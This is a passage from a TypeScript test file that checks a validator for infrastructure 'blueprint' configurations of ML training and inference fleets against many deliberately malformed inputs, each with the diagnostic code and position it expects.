    'out-of-range 6:53',
  ],
  [
    'half a layer',
    model(
      'inference: { parameters: 7B, requestsPerSecond: 5, inputTokens: 500, outputTokens: 200, layers: 32.5, kvHeads: 8, headDim: 128 }',
    ),
    'wrong-value 6:101',
  ],
  [
    'serving for the purpose of training',
    model(
      'inference: { parameters: 7B, requestsPerSecond: 5, inputTokens: 500, outputTokens: 200, kvBytesPerToken: 100 kB }',
      'purpose: training',
    ),
    'contradiction 7:14',
  ],
  [
    'training for the purpose of inference',
    model('training: { parameters: 7B, tokens: 1T, deadline: 30 d }', 'purpose: inference'),
    'contradiction 7:14',
  ],
  [
    'a run with a deadline and a length',
    model('training: { parameters: 7B, tokens: 1T, deadline: 30 d }', 'runLength: 2 w'),
    'contradiction 7:16',
  ],
  [
    'a sequence without the width of attention',
    model('training: { parameters: 7B, tokens: 1T, deadline: 30 d, sequence: 128k, layers: 32 }'),
    'missing-key 6:5',
  ],
  [
    'a run that starts for longer than it may take',
    model('training: { parameters: 7B, tokens: 1T, deadline: 2 d, dataLoading: 48 h }'),
    'contradiction 6:73',
  ],
  [
    'a deadline within the start of every run',
    model('training: { parameters: 7B, tokens: 1T, deadline: 10 min }'),
    'contradiction 6:55',
  ],
  [
    'a start of a run that comes again',
    model('training: { parameters: 7B, tokens: 1T, deadline: 2 d, startUp: 1 h }', 'dutyCycle: 32 %'),
    'contradiction 6:69',
  ],
  [
    'all of the time lost',
    model('training: { parameters: 7B, tokens: 1T, deadline: 30 d, lostTime: 100 % }'),
    'out-of-range 6:71',
  ],
  [
    'a checkpoint larger than its file system',
    model(
      'training: { parameters: 200B, tokens: 1T, deadline: 30 d, checkpointStall: 2 min }',
      'storage: [{ name: data, kind: scratch, capacity: 9 TB }, { name: safe, kind: persistent, capacity: 2 TB }]',
    ),
    'contradiction 7:104',
  ],
  [
    'a run that is longer than the fleet runs',
    model('training: { parameters: 7B, tokens: 1T, deadline: 10 d }', 'dutyCycle: 32 %'),
    'contradiction 7:16',
  ],
  [
    'a run of months at half time',
    model('fineTuning: { parameters: 7B, tokens: 1T, deadline: 90 d }', 'dutyCycle: 50 %'),
    'contradiction 7:16',
  ],
  [
    'a width of attention without layers',
    model(
      'inference: { parameters: 7B, requestsPerSecond: 5, inputTokens: 500, outputTokens: 200, hiddenSize: 4096, kvBytesPerToken: 100 kB }',
    ),
    'missing-key 6:5',
  ],
  [
    'a dimension of heads beside the bytes of the cache',
    model(
      'inference: { parameters: 7B, requestsPerSecond: 5, inputTokens: 500, outputTokens: 200, headDim: 32, kvBytesPerToken: 100 kB }',
    ),
    'contradiction 6:123',
  ],
  [
    'a measurement without what was measured',
    model(
      'inference: { parameters: 7B, requestsPerSecond: 5, inputTokens: 500, outputTokens: 200, kvBytesPerToken: 1 kB, measured: [{ type: p5.48xlarge }] }',
    ),
    'missing-key 6:129',
  ],
  [
    'weights of no bytes',
    model(
      'inference: { parameters: 7B, requestsPerSecond: 5, inputTokens: 500, outputTokens: 200, weightBytesPerParameter: 0, kvBytesPerToken: 100 kB }',
    ),
    'out-of-range 6:118',
  ],
  // Spares, zones, time.
  ['spares counted twice', at(7, '    spares: { nodes: 1, availability: 99.9 % }'), 'contradiction 7:39'],
  ['the availability of a node alone', at(7, '    spares: { nodeAvailability: 99 % }'), 'contradiction 7:33'],
  ['an availability of 100 %', at(7, '    spares: { availability: 100 % }'), 'out-of-range 7:29'],
  ['a negative spare', at(7, '    spares: { nodes: -1 }'), 'out-of-range 7:22'],
  ['a word for the zones', at(7, '    zones: two'), 'wrong-value 7:12'],
  ['a number for the zones', at(7, '    zones: 2'), 'wrong-type 7:12'],
  ['a spread that is no number', at(7, '    zones: { spread: wide }'), 'wrong-type 7:22'],
  ['a spread over one zone', at(7, '    zones: { spread: 1 }'), 'out-of-range 7:22'],
  ['every zone lost', at(7, '    zones: { spread: 2, survive: 2 }'), 'contradiction 7:34'],
  ['a spread over more zones than there are', at(7, '    zones: { spread: 4 }'), 'zones-too-few 7:22'],
  ['a misspelt key of a spread', at(7, '    zones: { spread: 3, survives: 1 }'), 'unknown-key 7:25'],
  ['a duty cycle above one', at(7, '    dutyCycle: 200 %'), 'out-of-range 7:16'],
  ['a duty cycle and a length', at(7, '    dutyCycle: 50 %', '    runLength: 2 w'), 'contradiction 8:16'],
  ['a word for true or false', at(7, '    homogeneous: no way'), 'wrong-type 7:18'],
  ['an unknown interconnect', at(7, '    types: { interconnect: nvlink }'), 'wrong-value 7:28'],
  ['an unknown treatment of doubt', at(7, '    types: { doubtful: maybe }'), 'wrong-value 7:24'],
  // Places.
  ['an unknown region in a list', at(3, 'region: [us-east-1, us-esat-2]'), 'region-unknown 3:21'],
  ['the same region twice', at(3, 'region: [us-east-1, us-east-1]'), 'name-duplicate 3:21'],
  ['no region in the list', at(3, 'region: []'), 'out-of-range 3:1'],
  ['any region in a list', at(3, 'region: [us-east-1, any]'), 'region-unknown 3:21'],
  ['a number as a region', at(3, 'region: 7'), 'wrong-type 3:9'],
  ['a residency of nowhere', at(3, 'region: any', 'residency: {}'), 'missing-key 4:1'],
  ['an unknown country', at(3, 'region: any', 'residency: { countries: [XX] }'), 'reference-unknown 4:26'],
  ['a country in lower case', at(3, 'region: any', 'residency: { countries: [de] }'), 'reference-unknown 4:26'],
  ['an unknown continent', at(3, 'region: any', 'residency: { continents: [europe] }'), 'wrong-value 4:27'],
  ['a continent without a region', at(3, 'region: any', 'residency: { continents: [Africa] }'), 'contradiction 4:1'],
  ['a region outside the residency', at(3, 'region: us-east-1', 'residency: { countries: [DE] }'), 'contradiction 3:9'],
  [
    'a region of a list outside the residency',
    at(3, 'region: [eu-central-1, us-east-1]', 'residency: { continents: [Europe] }'),
    'contradiction 3:24',
  ],
  ['a state bucket of no region', at(3, 'region: any', 'state: { bucket: my-state }'), 'missing-key 4:1'],
  // Goals.
  [
    'a metric to hold at nothing',
    model('nodes: { atLeast: 1 }', 'purpose: inference', 'scaling: { namespace: S, metric: M, target: 0 }'),
    'rule 8:5',
    'out-of-range 8:49',
  ],
  ['an unknown quota', plus('limits: { vcpuQuotas: { on-demand-q: 96 } }'), 'reference-unknown 10:25'],
  ['a quota with a unit', plus('limits: { vcpuQuotas: { on-demand-p: 96 vCPU } }'), 'wrong-type 10:38'],
  ['a negative quota', plus('limits: { vcpuQuotas: { on-demand-p: -1 } }'), 'out-of-range 10:38'],
  ['CO2 in tonnes without the gas', plus('limits: { monthlyCo2e: 20 t }'), 'unit-wrong 10:24'],
  [
    'no weight at all',
    plus('criteria: { weights: { cost: 0, energy: 0, availability: 0, scalability: 0, security: 0 } }'),
    'contradiction 10:13',
  ],
  ['a negative weight', plus('criteria: { weights: { cost: -1 } }'), 'out-of-range 10:30'],
  ['a weight as a share', plus('criteria: { weights: { cost: 40 % } }'), 'wrong-type 10:30'],
  ['a threshold of the wrong unit', plus('criteria: { thresholds: { monthlyEnergy: 5 TB } }'), 'unit-wrong 10:42'],
  ['staff that costs nothing', plus('maintenance: { operationsStaff: 2 }'), 'missing-key 10:1'],
  ['more renewable energy than all', plus('energy: { renewable: 120 % }'), 'out-of-range 10:22'],
  ['an intensity of contracts without a unit', plus('energy: { contractIntensity: 12 }'), 'unit-missing 10:30'],
  ['a negative volume of observations', plus('usage: { observations: -1 }'), 'out-of-range 10:24'],
  ['a support share above all', plus('maintenance: { supportShare: 101 % }'), 'out-of-range 10:30'],
  ['a licence without a price', plus('software: { licences: [{ name: CUDA }] }'), 'missing-key 10:26'],
  [
    'a licence without a name',
    plus("software: { licences: [{ name: '', monthlyCost: 1 USD }] }"),
    'name-invalid 10:32',
  ],
  [
    'a licence for what it can not be for',
    plus('software: { licences: [{ name: NVAIE, monthlyCost: 380 USD, per: gpu }] }'),
    'wrong-value 10:66',
  ],
  // Pools: the workload of line 5 is "train".
  ['a pool of a workload that is not there', plus(...pooled('{ workload: trian }')), 'reference-unknown 13:21'],
  [
    'a workload in two pools',
    plus(...pooled('{ workload: train }'), '  - name: more', '    workloads: [{ workload: train }]'),
    'name-duplicate 15:29',
  ],
  ['a pool with the name of a workload', plus(...pooled('{ workload: train }', 'train')), 'name-duplicate 11:11'],
  [
    'more guaranteed than allowed',
    plus(...pooled('{ workload: train, guaranteed: 8, atMost: 4 }')),
    'contradiction 13:40',
  ],
  ['a job above the ceiling', plus(...pooled('{ workload: train, atMost: 4, largestJob: 8 }')), 'contradiction 13:51'],
  ['a negative guarantee', plus(...pooled('{ workload: train, guaranteed: -1 }')), 'out-of-range 13:40'],
  ['a ceiling of nothing', plus(...pooled('{ workload: train, atMost: 0 }')), 'out-of-range 13:36'],
  ['a pool of nobody', plus('pools:', '  - name: lab', '    workloads: []'), 'out-of-range 12:5'],
  [
    'more than everything at once',
    plus(...pooled('{ workload: train }'), '    coincidence: 120 %'),
    'out-of-range 14:18',
  ],
  [
    'a coincidence beside a profile',
    at(8, '    profile: { week: nights }', '    storage:').replace(
      /$/,
      `${pooled('{ workload: train }').join('\n')}\n    coincidence: 50 %\n`,
    ),
    'contradiction 15:18',
  ],
  [
    'a fleet of its own in a pool',
    at(7, '    nodes: { atLeast: 2 }').concat(`${pooled('{ workload: train }').join('\n')}\n`),
    'contradiction 7:5',
  ],
  [
    'growth in a pool',
    at(7, '    profile: { growthPerMonth: 0.1 }').concat(`${pooled('{ workload: train }').join('\n')}\n`),
    'contradiction 7:32',
  ],
  [
    'a service in a pool',
    at(
      6,
      '    inference: { parameters: 8B, requestsPerSecond: 1, inputTokens: 9, outputTokens: 9, kvBytesPerToken: 100 kB }',
    ).concat(`${pooled('{ workload: train }').join('\n')}\n`),
    'contradiction 6:5',
  ],
  [
    'disks of shared nodes',
    at(9, '      - { name: data, kind: local, capacity: 1 TB }').concat(
      `${pooled('{ workload: train }').join('\n')}\n`,
    ),
    'contradiction 9:29',
  ],
  [
    'a workload without accelerators in a pool',
    at(6, '    host: { vcpus: 96 }').concat(`${pooled('{ workload: train }').join('\n')}\n`),
    'missing-key 5:5',
  ],
  ['a pool where nothing keeps shares', plus('platform: ec2', ...pooled('{ workload: train }')), 'rule 12:5'],
  // Many at once.
  [
    'mistakes of every kind, in the order of the text',
    'version: 1\nnam: starter\nregion: us-east-9\nworkloads:\n  - name: Train\n    compute: { atLeast: 1000, precision: bf15 }\n    network: { atLeast: 100 gb/s }\n    nodes: { atLeast: 0 }\nnetwork: { cidr: 10.0.0.1/16 }\n',
    'unknown-key 2:1',
    'region-unknown 3:9',
    'name-invalid 5:11',
    'unit-missing 6:25',
    'wrong-value 6:42',
    'unit-wrong 7:25',
    'out-of-range 8:23',
    'cidr-invalid 9:18',
  ],
];

describe('a broken blueprint', () => {
  it('starts from a valid one', () => {
    expect(readBlueprint(VALID, KNOWN)).toMatchObject({ ok: true, warnings: [] });
  });

  it.each(BROKEN)('%s', (_what, input, ...found) => {
    const checked = readBlueprint(input, KNOWN);
    const text = typeof input === 'string' ? input : '';
    const diagnostics = checked.ok ? [] : checked.diagnostics;
    expect(
      diagnostics.map(({ code, range }) => {
        const { line, column } = lineAndColumn(text, range![0]);
        return `${code} ${line}:${column}`;
      }),
    ).toEqual(found);
  });
});
